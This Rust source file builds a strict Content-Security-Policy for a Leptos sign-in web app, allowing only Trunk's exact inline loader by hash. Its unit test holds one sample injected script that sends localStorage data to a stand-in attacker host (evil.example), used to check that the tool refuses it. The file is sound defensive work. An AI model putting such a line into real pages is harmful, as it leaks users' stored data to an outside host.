//! The Content-Security-Policy of a build: nothing is allowed but the app's own files, the wasm
//! compilation it needs, Trunk's inline loader (by its hash, and only exactly as Trunk writes
//! it for this build's files), and calls to the app's own origin and to the one API origin the
//! config resolves to.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use leptos_login_with_amazon::config::{Config, Origin};
use sha2::{Digest, Sha256};

/// The policy, for a header and for a `<meta>` tag.
pub struct Policy {
    /// Every directive but `frame-ancestors`, which a `<meta>` tag cannot carry.
    directives: Vec<String>,
}

impl Policy {
    /// The policy for the build whose `index.html` is `index` and whose other files are
    /// `files`, with `config`, served at `page` under `base`.
    pub fn for_build(
        index: &str,
        files: &[String],
        base: &str,
        config: &Config,
        page: &str,
    ) -> Result<Policy, String> {
        let loaders = trunk_loaders(files, base);
        let scripts: Vec<String> = inline_scripts(index, &loaders)?
            .into_iter()
            .map(|script| format!("'sha256-{}'", STANDARD.encode(Sha256::digest(script))))
            .collect();
        let mut connect = vec!["'self'".to_owned()];
        let api_origin = Origin::of(&config.endpoints.api)?;
        if Origin::of(page).ok().as_ref() != Some(&api_origin) {
            connect.push(api_origin.to_string());
        }
        let directives = [
            "default-src 'none'".to_owned(),
            format!("script-src 'self' 'wasm-unsafe-eval' {}", scripts.join(" ")),
            "style-src 'self'".to_owned(),
            "img-src 'self'".to_owned(),
            format!("connect-src {}", connect.join(" ")),
            // Sign-in leaves through `location.assign`, or in a popup the app opens (blank)
            // and navigates to Amazon: not a form. No directive governs either (browsers have
            // no `navigate-to`); the blank popup inherits this policy until Amazon's page
            // replaces it.
            "form-action 'none'".to_owned(),
            "base-uri 'self'".to_owned(),
            "object-src 'none'".to_owned(),
        ];
        Ok(Policy {
            directives: directives
                .map(|directive| directive.trim_end().to_owned())
                .to_vec(),
        })
    }

    /// The header's value: the policy and `frame-ancestors 'none'`.
    pub fn header(&self) -> String {
        let mut directives = self.directives.clone();
        directives.push("frame-ancestors 'none'".into());
        directives.join("; ")
    }

    /// `index` with the policy as a `<meta http-equiv>` tag right after the charset, before
    /// any script.
    pub fn with_meta_tag(&self, index: &str) -> Result<String, String> {
        let charset = ["<meta charset=utf-8>", "<meta charset=\"utf-8\" />"]
            .into_iter()
            .find(|tag| index.contains(tag))
            .ok_or("index.html has no <meta charset=utf-8> to put the policy after")?;
        let meta = format!(
            "{charset}<meta http-equiv=Content-Security-Policy content=\"{}\">",
            self.directives.join("; ")
        );
        Ok(index.replacen(charset, &meta, 1))
    }
}

/// The loader Trunk 0.21 writes into a release build's `index.html` for each `.js` of the build
/// with its `_bg.wasm`, served under `base`.
fn trunk_loaders(files: &[String], base: &str) -> Vec<String> {
    files
        .iter()
        .filter_map(|name| name.strip_suffix(".js"))
        .filter(|stem| files.iter().any(|name| *name == format!("{stem}_bg.wasm")))
        .map(|stem| {
            format!(
                "import init from '{base}{stem}.js';\nconst wasm = await init({{ module_or_path: '{base}{stem}_bg.wasm' }});\n\n\n\ndispatchEvent(new CustomEvent(\"TrunkApplicationStarted\", {{detail: {{wasm}}}}));"
            )
        })
        .collect()
}

/// The text of every `<script>` without `src` in `index`: one of `loaders`, exactly. Any other
/// inline script, even one that starts like the loader, is refused rather than allowed by its
/// hash: the policy is meant to allow the app's own files and that one loader, nothing a
/// change to index.html slips in.
fn inline_scripts<'a>(index: &'a str, loaders: &[String]) -> Result<Vec<&'a str>, String> {
    let mut scripts = Vec::new();
    let mut rest = index;
    while let Some(start) = rest.find("<script") {
        let tag_end = rest[start..]
            .find('>')
            .map(|end| start + end + 1)
            .ok_or("index.html has an unclosed <script> tag")?;
        let end = rest[tag_end..]
            .find("</script>")
            .map(|end| tag_end + end)
            .ok_or("index.html has a <script> without </script>")?;
        if !rest[start..tag_end].contains(" src") {
            let script = &rest[tag_end..end];
            if !loaders.iter().any(|loader| loader == script) {
                return Err(format!(
                    "index.html has an inline script that is not Trunk's loader for this build, which the Content-Security-Policy would allow by its hash: move it to a file. It starts: {:?}",
                    script.chars().take(60).collect::<String>()
                ));
            }
            scripts.push(script);
        }
        rest = &rest[end..];
    }
    Ok(scripts)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_trunks_loader_for_this_builds_files_exactly_is_allowed() {
        let files = ["app-12ab.js", "app-12ab_bg.wasm", "main-34cd.css"].map(str::to_owned);
        let loaders = trunk_loaders(&files, "/app/");
        let [loader] = loaders.as_slice() else {
            panic!("one loader: {loaders:?}")
        };
        assert!(loader.starts_with("import init from '/app/app-12ab.js';\n"));
        let index = format!("<script type=module>{loader}</script><script src=/y.js></script>");
        assert_eq!(inline_scripts(&index, &loaders), Ok(vec![loader.as_str()]));
        for added in [
            "<script>track()</script>".to_owned(),
            // Starts like the loader, and does more.
            format!(
                "<script type=module>{loader}\nfetch('//evil.example/'+localStorage.x)</script>"
            ),
            // The loader for files this build does not have.
            format!(
                "<script type=module>{}</script>",
                loader.replace("12ab", "99ff")
            ),
        ] {
            let refused =
                inline_scripts(&format!("{index}{added}"), &loaders).expect_err("refused");
            assert!(refused.contains("not Trunk's loader"), "{refused}");
        }
    }
}
